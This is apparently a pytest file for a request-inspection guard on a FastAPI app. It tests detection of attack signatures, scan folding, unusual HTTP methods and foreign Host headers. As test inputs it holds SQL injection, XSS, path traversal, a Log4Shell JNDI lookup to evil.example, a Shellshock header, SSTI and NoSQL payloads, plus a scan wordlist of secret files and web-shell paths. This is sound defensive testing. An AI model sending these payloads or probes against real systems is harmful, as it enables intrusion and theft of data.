"""A plain application whose requests are looked into: what has an attack in it is an event, and a scan is a handful."""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from contextlib import contextmanager

import orjson
import pytest
from fastapi import FastAPI, HTTPException, Request
from support.asgi import fetch, get
from support.engines import need_re2
from support.recording import Recording, recording
from support.reporting_guard import ReportingGuard

from opentelemetry_guard import privacy
from opentelemetry_guard.instrumentation import http as fastapi_apps
from opentelemetry_guard.settings.instrumentation import GuardOptions

ATTEMPT, SUSPICIOUS = "penetration_attempt", "suspicious_request"


@contextmanager
def followed(rules: dict[str, object] | None = None) -> Iterator[Recording]:
    with recording() as built:
        fastapi_apps.install(GuardOptions(behavior=False, http_rules=rules), built.pipeline.emitter)
        try:
            yield built
        finally:
            fastapi_apps.uninstall()


@pytest.fixture
def recorded() -> Iterator[Recording]:
    with followed() as built:
        yield built


def application() -> FastAPI:
    app = FastAPI(telemetry={"tracing": False, "metrics": False, "logs": False})

    @app.get("/items/{number}")
    async def item(number: str) -> dict[str, str]:
        return {"item": number}

    @app.post("/notes")
    async def notes(request: Request) -> dict[str, int]:
        return {"bytes": len(await request.body())}

    @app.get("/private")
    async def private() -> None:
        raise HTTPException(403)

    return app


def told(recorded: Recording) -> list[tuple[str, str | None]]:
    return [(event["event_type"], event.get("pattern_matched")) for event in recorded.events()]


class TestWhatIsFound:
    @pytest.mark.parametrize(
        ("path", "headers", "expected"),
        [
            ("/items/7?id=1%27%20or%20%271%27=%271", {}, (ATTEMPT, "sqli-quoted-comparison")),
            ("/items/7?q=<script>alert(1)</script>", {}, (ATTEMPT, "xss-script-code")),
            ("/items/7?file=../../etc/passwd", {}, (ATTEMPT, "lfi-system-file")),
            ("/items/7", {"User-Agent": "${jndi:ldap://evil.example/a}"}, (ATTEMPT, "jndi-lookup")),
            ("/items/7", {"Referer": "https://x/?q=<script>alert(1)"}, (ATTEMPT, "xss-script-code")),
            ("/items/7?next=%3Cscript", {}, (SUSPICIOUS, "xss-script-tag")),
            ("/private?id=1;drop%20table%20users", {}, (ATTEMPT, "sqli-stacked")),
            ("/items/%7B%7B7*7%7D%7D", {}, (ATTEMPT, "ssti-arithmetic")),
            ("/uploads/c99.php", {}, (SUSPICIOUS, "missing-backdoor")),
            ("/backend/appsettings.Production.json", {}, (SUSPICIOUS, "missing-secret")),
        ],
    )
    def test_it_is_one_event_with_the_name_of_the_signature(
        self, recorded: Recording, path: str, headers: dict[str, str], expected: tuple[str, str]
    ) -> None:
        get(application(), path, headers=headers)
        assert told(recorded) == [expected]
        (event,) = recorded.events()
        assert event["metadata"]["rule"] == "signatures"
        assert event["metadata"]["place"]

    def test_an_ordinary_request_is_none(self, recorded: Recording) -> None:
        for path in ("/items/7?q=O%27Brien&page=2", "/items/7?q=select+the+best+from+the+list", "/favicon.ico"):
            get(application(), path, headers={"Referer": "https://shop.example/search?q=50%25+off"})
        assert told(recorded) == []

    def test_what_matched_is_kept_only_where_a_setting_asks_for_it(self, recorded: Recording) -> None:
        need_re2()
        attack = "/items/7?id=1%27%20or%20%271%27=%271"
        get(application(), attack, address="203.0.113.1")
        try:
            privacy.configure(capture_content=True)
            get(application(), attack, address="203.0.113.2")
        finally:
            privacy.reset()
        quiet, open_ = recorded.events()
        assert " or " not in orjson.dumps(quiet).decode()
        assert open_["metadata"]["matched_text"] == "id=1' or '1'="

    def test_the_rule_has_a_switch_and_its_categories_can_be_chosen(self) -> None:
        for rules, expected in (
            ({"signatures": None}, []),
            ({"signatures": {"categories": ["xss"]}}, [(ATTEMPT, "xss-script-code")]),
            ({"signatures": {"headers": []}}, [(ATTEMPT, "sqli-quoted-comparison"), (ATTEMPT, "xss-script-code")]),
        ):
            with followed(rules) as built:
                get(application(), "/items/7?id=1%27%20or%20%271%27=%271")
                get(application(), "/items/7?q=<script>alert(1)</script>")
                get(application(), "/items/7", headers={"User-Agent": "() { :;}; id"}) if rules["signatures"] else None
                assert told(built) == expected

    def test_an_event_of_a_guard_in_the_application_is_the_only_one(self, recorded: Recording) -> None:
        report = {"event_type": ATTEMPT, "ip_address": "203.0.113.7", "action_taken": "x"}
        app = application()
        app.add_middleware(ReportingGuard, recorded=recorded, report=report, status=400)
        get(app, "/items/7?q=<script>alert(1)</script>")
        assert recorded.types() == [ATTEMPT]
        assert recorded.events()[0].get("pattern_matched") is None


class TestBodies:
    JSON = orjson.dumps({"user": {"name": "x' or '1'='1"}, "tags": ["a"]})

    def test_they_are_not_looked_into_unless_a_setting_says_so(self, recorded: Recording) -> None:
        get(application(), "/notes", method="POST", body=self.JSON)
        assert told(recorded) == []

    @pytest.mark.parametrize(
        ("body", "kind", "expected"),
        [
            (JSON, "application/json", "sqli-quoted-comparison"),
            (b'{"a": "\\u003cscript\\u003ealert(1)', "application/problem+json; charset=utf-8", "xss-script-code"),
            (b"name=O'Brien&note=%3Cscript%3Ealert(1)", "application/x-www-form-urlencoded", "xss-script-code"),
            (orjson.dumps({"password": {"$ne": None}}), "application/json", "nosql-json"),
            (b"<script>alert(1)</script>", "text/plain", None),
            (orjson.dumps({"name": "O'Brien", "q": ["select", "from"]}), "application/json", None),
        ],
    )
    def test_their_beginning_is_looked_into_and_the_application_gets_all_of_them(
        self, body: bytes, kind: str, expected: str | None
    ) -> None:
        lengths: list[int] = []
        app = application()

        @app.post("/length")
        async def length(request: Request) -> None:
            lengths.append(len(await request.body()))

        with followed({"signatures": {"body": True}}) as built:
            get(app, "/length", method="POST", body=body, headers={"Content-Type": kind})
            assert lengths == [len(body)]
            assert [pattern for _, pattern in told(built)] == ([expected] if expected else [])

    def test_no_more_than_so_many_bytes_are_kept(self) -> None:
        body = orjson.dumps({"pad": "a" * 9000, "q": "<script>alert(1)</script>"})
        with followed({"signatures": {"body": True, "body_bytes": 1000}}) as built:
            get(application(), "/notes", method="POST", body=body)
            assert told(built) == []


class TestScans:
    WORDS = (
        *(
            ".env",
            ".git/config",
            "admin",
            "backup.zip",
            "dump.sql",
            "phpmyadmin/index.php",
            "wp-login.php",
            "shell.php",
        ),
        *(
            "test.asp",
            "login.jsp",
            "cgi-bin/test.cgi",
            "config.bak",
            "server-status",
            "console",
            "index.php",
            "old.tar.gz",
        ),
    )

    def test_a_scan_of_hundreds_of_paths_is_a_handful_of_events_with_counts(self) -> None:
        clock = iter(range(0, 100_000))
        with recording() as built:
            fastapi_apps.install(GuardOptions(behavior=False), built.pipeline.emitter)
            judge = fastapi_apps.patches._judge  # type: ignore[attr-defined]
            judge._clock = lambda: next(clock) / 10
            app = application()

            async def scan() -> None:
                for number in range(102):
                    path = self.WORDS[number % len(self.WORDS)] if number % 3 == 0 else f"w{number}"
                    await fetch(app, f"/{path}")

            asyncio.run(scan())
            fastapi_apps.uninstall()
            events = built.events()
        assert 2 <= len(events) <= 4
        assert sum(1 + event["metadata"].get("folded", 0) for event in events) >= 30

    def test_another_client_and_another_kind_of_attack_are_told_at_once(self, recorded: Recording) -> None:
        app = application()
        for path in ("/.env", "/wp-login.php", "/items/7?q=<script>alert(1)", "/items/7?id=1;drop%20table%20x"):
            get(app, path)
        get(app, "/.env", address="203.0.113.8")
        assert [event["event_type"] for event in recorded.events()] == [SUSPICIOUS, ATTEMPT, ATTEMPT, SUSPICIOUS]

    def test_addresses_of_one_network_are_one_client(self, recorded: Recording) -> None:
        app = application()
        for number in range(20):
            get(app, "/.env", address=f"2001:db8:1:2::{number + 1:x}")
        assert len(recorded.events()) == 1

    def test_what_is_folded_is_told_when_the_instrumentation_ends(self) -> None:
        with followed() as built:
            for _ in range(7):
                get(application(), "/.env")
            assert len(built.events()) == 1
            fastapi_apps.uninstall()
            first, last = built.events()
        assert "folded" not in first["metadata"]
        assert last["metadata"]["folded"] == 5

    def test_folding_can_be_switched_off(self) -> None:
        with followed({"folding": None}) as built:
            for _ in range(7):
                get(application(), "/.env")
            assert len(built.events()) == 7

    def test_old_links_of_another_framework_mean_nothing_alone(self, recorded: Recording) -> None:
        app = application()
        for number in range(6):
            get(app, f"/old/page{number}.php")
        assert told(recorded) == []
        get(app, "/default.aspx")
        get(app, "/login.jsp")
        assert told(recorded) == [(SUSPICIOUS, "missing-java")]
        assert recorded.events()[0]["metadata"]["together"] == 3

    def test_a_shape_that_the_application_serves_means_nothing(self, recorded: Recording) -> None:
        app = application()

        @app.get("/legacy/{page}.php")
        async def legacy(page: str) -> str:
            return page

        get(app, "/legacy/a.php")
        get(app, "/uploads/c99.php")
        assert told(recorded) == []


class TestMethodsAndHosts:
    @pytest.mark.parametrize("method", ["TRACE", "TRACK", "DEBUG"])
    def test_a_method_that_nobody_sends_is_suspicious(self, recorded: Recording, method: str) -> None:
        assert get(application(), "/items/7", method=method) == 405
        (event,) = recorded.events()
        assert (event["event_type"], event["metadata"]["rule"]) == (SUSPICIOUS, "methods")

    @pytest.mark.parametrize(
        ("host", "foreign"),
        [
            ("shop.example", False),
            ("SHOP.example:8000", False),
            ("www.shop.example", False),
            ("[::1]:8000", False),
            ("evil.example", True),
            ("shop.example.evil.example", True),
            ("myshop.example", True),
        ],
    )
    def test_a_foreign_host_is_suspicious_where_ours_are_known(self, host: str, foreign: bool) -> None:
        with followed({"hosts": ["shop.example", "*.shop.example", "[::1]"]}) as built:
            get(application(), "/items/7", headers={"Host": host})
            assert [event["metadata"]["rule"] for event in built.events()] == (["hosts"] if foreign else [])

    def test_any_host_is_right_where_ours_are_unknown(self, recorded: Recording) -> None:
        get(application(), "/items/7", headers={"Host": "evil.example"})
        assert told(recorded) == []
